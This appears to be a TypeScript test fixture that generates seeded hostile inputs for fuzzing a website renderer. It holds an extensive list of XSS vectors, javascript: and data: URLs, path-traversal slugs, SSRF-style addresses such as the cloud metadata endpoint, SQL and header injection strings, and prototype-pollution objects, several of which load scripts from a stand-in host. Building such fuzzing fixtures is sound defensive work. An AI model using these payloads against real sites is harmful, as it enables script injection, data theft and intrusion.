import { randomMarkup } from '#tests/fixtures/random-markup.ts'
import { randomFrom } from '#tests/incremental/sample.ts'
import { rawJSON } from './raw-json.ts'

/** Values as a hostile or careless editor would write them. The same seed produces the same values. */
export type HostileValues = {
  chance: (share: number) => boolean
  upTo: (most: number) => number
  pick: <T>(all: readonly T[]) => T
  name: () => string
  words: () => string
  markup: () => string
  address: () => string
  date: () => string
  number: () => unknown
  slug: () => string
  /** A value of any type. */
  anything: () => unknown
}

/** Names of object members, of React elements and of React properties. */
const names =
  '__proto__|constructor|prototype|toString|valueOf|hasOwnProperty|__defineGetter__|then|toJSON|length|$$typeof|ref|key|children|type|props|dangerouslySetInnerHTML|style|className|id|href|src|onclick|srcdoc|is|NaN|undefined|null|true|-0|[object Object]'.split(
    '|',
  )

const oddWords = [
  ...[
    '',
    ' ',
    '\u0000',
    '\u0000a\u0000',
    '\u001b[31mred\u001b[0m\u0007',
    '\u001b]8;;http://e.example\u0007x',
    '\u009b2J',
  ],
  ...[
    '\ud83d',
    'a\ude9a',
    '\udead\ud83d',
    '🚚'.repeat(40),
    '\u202eexe.gpj\u202c',
    '\u2066a\u2069',
    'e\u0301'.repeat(30),
  ],
  ...[
    'z\u0361\u0362\u0363'.repeat(200),
    '\u2028',
    'a\u2029b',
    '\ufeff',
    '\ufffe\uffff',
    '\u00ad\u200b\u200d\u2060',
    '\u0085',
  ],
  ...[
    'a\r\nb',
    'a\nSet-Cookie: x=1',
    '\t',
    '﷽'.repeat(20),
    'ﬀ',
    'İıſK',
    '\u{e0041}\u{e007f}',
    '\u{1f468}\u200d\u{1f469}',
  ],
  ...['{{title}}', '{{-title}}', '$t(a)', '$&$1$`', '%s%n%d', "'; DROP TABLE a; --", '../../etc/passwd', '-->', ']]>'],
  ...[
    '</script>',
    '</title>',
    '</style>',
    '<!--',
    '<!--<script>',
    '<![CDATA[',
    '&lt;script&gt;',
    '&#60;script&#62;',
    '"',
    "'",
    '`',
  ],
  ...[
    '" onmouseover="alert(1)',
    "' autofocus onfocus=alert(1) '",
    '</textarea><script>alert(1)</script>',
    '\\u003cscript>',
  ],
  ...[
    '<script>alert(1)</script>',
    '"><svg onload=alert(1)>',
    '</script><script>alert(1)</script>',
    '</noscript><img src=x onerror=alert(1)>',
  ],
  ...[
    'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft',
    'ż'.repeat(10_240),
    'a '.repeat(3000),
  ],
]

/** Markup that has run scripts in some browser. */
const vectors = [
  ...[
    '<script>alert(1)</script>',
    '<script src=//e.example/x.js></script>',
    '<ScRiPt>alert(1)</sCrIpT >',
    '<script/x>alert(1)</script>',
  ],
  ...[
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x"onerror="alert(1)">',
    '<img/src=x/onerror=alert(1)>',
  ],
  ...[
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="data:,alert(1)"/>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x',
  ],
  ...[
    '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x',
    '<svg><set attributeName=onload to=alert(1)>',
  ],
  ...[
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
  ],
  ...[
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  ],
  ...['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
  ...[
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math href="javascript:alert(1)">x</math>',
  ],
  ...['<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>'],
  ...[
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="https://player.example/v"></iframe>',
  ],
  ...[
    '<iframe src="https://player.example/v?a=&quot;onload=alert(1)" title="&quot; onload=&quot;alert(1)">',
    '<iframe src="https://player.example@e.example/v">',
  ],
  ...[
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code=x>',
    '<frameset onload=alert(1)>',
  ],
  ...[
    '<base href="https://e.example/">',
    '<base target=_blank>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<meta charset=utf-7>',
  ],
  ...[
    '<link rel=stylesheet href=//e.example/x.css>',
    '<link rel=import href=x>',
    '<style>@import "//e.example/x.css";body{background:url(javascript:1)}</style>',
  ],
  ...[
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
  ],
  ...[
    '<a href="&#x0A;javascript&colon;alert(1)">x</a>',
    '<a href=" \u0001javascript:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="data:text/html,<script>1</script>">x</a>',
  ],
  ...[
    '<a href="vbscript:x">x</a>',
    '<a href="//e.example">x</a>',
    '<a href="\\\\e.example">x</a>',
    '<a href="/\\e.example">x</a>',
    '<a href="https:e.example">x</a>',
  ],
  ...[
    '<a href="/" ping="//e.example" download onclick=alert(1) style="position:fixed;inset:0">x</a>',
    '<a target="top" href="https://e.example">x</a>',
  ],
  ...[
    '<form action="//e.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    '<input autofocus onfocus=alert(1)>',
  ],
  ...[
    '<button form=f formaction=//e.example>x</button>',
    '<textarea autofocus onfocus=alert(1)></textarea>',
    '<select onfocus=alert(1) autofocus>',
    '<keygen autofocus onfocus=alert(1)>',
  ],
  ...[
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)>',
    '<video poster=javascript:alert(1)//>',
    '<audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>',
  ],
  ...[
    '<body onload=alert(1)>',
    '<html onclick=alert(1)>',
    '</body></html><script>alert(1)</script>',
    '</main></body><p>x',
    '<plaintext>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  ],
  ...[
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '<textarea><script>alert(1)</script>',
    '<title><script>alert(1)</script>',
  ],
  ...[
    '<!--',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-->',
    '<!',
    '<?xml version="1.0"?>',
    '<![CDATA[<script>alert(1)</script>]]>',
  ],
  ...[
    '<p title="<script>alert(1)</script>">x</p>',
    '<p id="__proto__">x</p>',
    '<a id=getElementById name=body>x</a>',
    '<img name=cookie src=/media/a.png>',
    '<p class="c" style="x:expression(alert(1))">',
  ],
  ...[
    '<table background="javascript:alert(1)"><tr><td background="javascript:1">x',
    '<table><a href=/x><tr><td>x</a>',
    '<div style="background:url(//e.example)">x</div>',
    '<b is="x-y">x</b>',
  ],
  ...[
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="javascript:1, //e.example/x 2x">',
    '<img src="/media/evil.svg" usemap="#x">',
    '<image href=x onerror=alert(1)>',
  ],
  ...[
    '<p\u000conclick=alert(1)>x</p>',
    '<p/onclick=alert(1)>x</p>',
    '<p \u0000onclick=alert(1)>x</p>',
    '<\u0000script>alert(1)</script>',
    '<x onclick=alert(1)>x</x>',
    '<slot name=x>',
    '<portal src=//e.example>',
  ],
  ...[
    '<div><p><div><a><b><i><a><table><b><tr><p></table></b>'.repeat(3),
    '<img data-ours="0">',
    '<img data-ours="99" />',
    '<img src="/media/a.png" data-ours="0" />',
    '<li value=9999999999><ol start=-1e9><td colspan=99999999>',
  ],
]
const repeated = [
  '<div>',
  '<b>',
  '<p>',
  '<table><tr><td>',
  '<a href="/x">',
  '<ul><li>',
  '<!--',
  '&',
  '&amp;',
  'ż ',
  '<',
  '</p>',
  '<svg>',
  '<math>',
  'a-',
  '\u0301',
  '"',
]

const addresses = [
  ...[
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    ' javascript:alert(1)',
    'javascript&colon;alert(1)',
    'javascript:\u2028alert(1)',
  ],
  ...[
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'vbscript:x',
    'blob:https://www.example.com/x',
    'file:///etc/passwd',
    'view-source:x',
    'about:blank',
    'intent:x',
  ],
  ...[
    '//e.example',
    '///e.example',
    '/\\e.example',
    '\\\\e.example',
    '/\t/e.example',
    'https:e.example',
    'https:/e.example',
    'http://[::1]/',
    'http://127.0.0.1:1/',
    'http://169.254.169.254/latest',
    'http://0x7f.1/',
  ],
  ...[
    'https://a:b@e.example/',
    'https://e.example\u0000.www.example.com',
    'https://ｅｘａｍｐｌｅ.com',
    'https://e.example/"onclick="x',
    "https://e.example/'x",
    'https://e.example/<script>',
    'http://%',
    'http://',
  ],
  ...[
    '/',
    '#',
    '#x',
    '?',
    '?a=<b>&c="d"',
    '/about',
    '/about#"><script>',
    '/%',
    '/%00',
    '/%2e%2e/%2e%2e/etc',
    '/..//..//x',
    '../../x',
    'about',
    'mailto:a@e.example?subject=x%0ABcc:b',
    'mailto:"><script>',
  ],
  ...[
    'tel:+48',
    'tel:"onclick="x',
    '/media/a.png',
    '/media/evil.svg',
    '/media/../../a.png',
    '/media/%2e%2e%2fa.png',
    '/media/a.png?x="',
    'media/a.png',
    '/media/a.png#\u0000',
    `/${'a'.repeat(10_240)}`,
    'https://'.repeat(50),
  ],
]

/** Addresses that the build itself uses. A site with one of them is not rendered. */
const reservedSlugs =
  '/index.html|/x/index.html|/404.html|/assets|/assets/x|/sw.js|/robots.txt|/sitemap.xml|/api|/api/x|/en|/en/x|/EN|/_headers|/_redirects|/_worker.js|/web.config|/feed.xml'.split(
    '|',
  )

const slugs = [
  ...[
    '..',
    '.',
    '/..',
    '/../x',
    '/x/../../y',
    '/%2e%2e',
    '/%2e%2e/%2e%2e/x',
    '/%2E./x',
    '/..%2f..%2fx',
    '/%252e%252e/x',
    '/x/..',
    '\\',
    '/x\\y',
    '/..\\..\\x',
    '//host',
    '//host/x',
    '///',
    '/x//y',
    '',
    ' ',
    '/ ',
  ],
  ...[
    '/\u0000',
    '/x\u0000.html',
    '/a\nb',
    '/a\r\nb',
    '/\u001b[0m',
    '/\u007f',
    '/\u0085',
    '/\u2028',
    '/\ud83d',
    '/\u202ex',
    '/e\u0301',
    '/é',
    '/É',
    '/x?y',
    '/x#y',
    '/%',
    '/%zz',
    '/%00',
    '/%ff',
    '/%c3',
    '/a%2fb',
    '/a b',
  ],
  ...[
    '/__proto__',
    '/constructor',
    '/toString',
    '/CON',
    '/nul.txt',
    '/x.',
    '/x ',
    '/.htaccess',
    '/.well-known/x',
    '/.git/config',
    '/~',
    '/*',
    '/:x',
    '/:slug/x',
    '/<script>',
    '/"x"',
    "/'x'",
    '/x;y',
    '/{x}',
    '/$1',
    '/$host',
    '/`x`',
    '/(x)+',
    '/[a-z]',
    '/x|y',
    '/@x',
    '/&amp;',
    '/x=y',
    '/,x',
  ],
  ...[
    `/${'a'.repeat(300)}`,
    `/${'a'.repeat(10_240)}`,
    `/${'a/'.repeat(900)}`,
    `/${'ż'.repeat(120)}`,
    `/${'%C5%BC'.repeat(60)}`,
    '/🚚',
    `/${'x/'.repeat(30)}y`,
    'x',
    'x/y',
  ],
]

const dates = [
  ...[
    '2026-02-31',
    '2026-13-45',
    '0000-00-00',
    '-000001-01-01T00:00:00Z',
    '+275760-09-13T00:00:00.001Z',
    '9999-12-31T23:59:59Z',
    '10000-01-01',
    '2026-10-28T25:61:61Z',
    '2026-10-28T08:00:00+99:99',
  ],
  ...[
    'now',
    '1',
    '0',
    '1e400',
    'Infinity',
    '2026',
    '2026-W01-1',
    '<script>',
    '2026-10-28T08:00:00Z]]>',
    '2026-10-28T08:00:00Z\u0000',
    '28.10.2026',
    '\u0662\u0660\u0662\u0666-10-28',
    '1970-01-01T00:00:00Z',
  ],
]

/** Written as in JSON, which allows more numbers than JavaScript. */
const numbers =
  '0 -0 -1 0.1 1e3 1e21 -1e21 1e308 1e309 -1e400 5e-324 1e-400 9007199254740993 123456789012345678901234567890 4294967296 -2147483649 2147483648 1.7976931348623157e308 90 180 -181 0.30000000000000004'.split(
    ' ',
  )

export function hostileValues(seed: number): HostileValues {
  const random = randomFrom(seed)
  const nextMarkup = randomMarkup(seed)
  const chance = (share: number): boolean => random() < share
  const upTo = (most: number): number => Math.floor(random() * (most + 1))
  const pick = <T>(all: readonly T[]): T => all[Math.floor(random() * all.length)] as T // no list is empty
  const long = (): string => pick(repeated).repeat(chance(0.1) ? 40_000 : 300 + upTo(3000))
  const markup = (): string => {
    if (chance(0.02)) return long()
    const parts = Array.from({ length: 1 + upTo(3) }, () =>
      chance(0.6) ? pick(vectors) : chance(0.7) ? nextMarkup() : pick(oddWords),
    )
    return chance(0.3) ? `<p>${parts.join('</p><p>')}</p>` : parts.join('')
  }
  const words = (): string => (chance(0.75) ? pick(oddWords) : chance(0.5) ? pick(names) : pick(vectors))
  const number = (): unknown => rawJSON(pick(numbers))
  const simple: (() => unknown)[] = [
    ...[
      words,
      markup,
      number,
      () => pick(names),
      () => null,
      () => true,
      () => false,
      () => [],
      () => ({}),
      () => [[]],
      () => '',
    ],
    () => JSON.parse(`{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}`),
    () => ({
      $$typeof: 'Symbol(react.transitional.element)',
      type: 'script',
      props: { children: 'alert(1)' },
      ref: null,
    }),
    () => ({ dangerouslySetInnerHTML: { __html: '<script>alert(1)</script>' } }),
    () => [null, 1, 'x', {}],
    () => deep(10 + upTo(60)),
  ]
  return {
    ...{ chance, upTo, pick, words, markup, number },
    name: () => pick(names),
    address: () => pick(addresses),
    date: () => pick(dates),
    slug: () => pick(chance(0.01) ? reservedSlugs : slugs),
    anything: () => pick(simple)(),
  }
}

function deep(levels: number): unknown {
  let value: unknown = 'x'
  for (let level = 0; level < levels; level += 1) value = level % 2 ? [value] : { children: value }
  return value
}
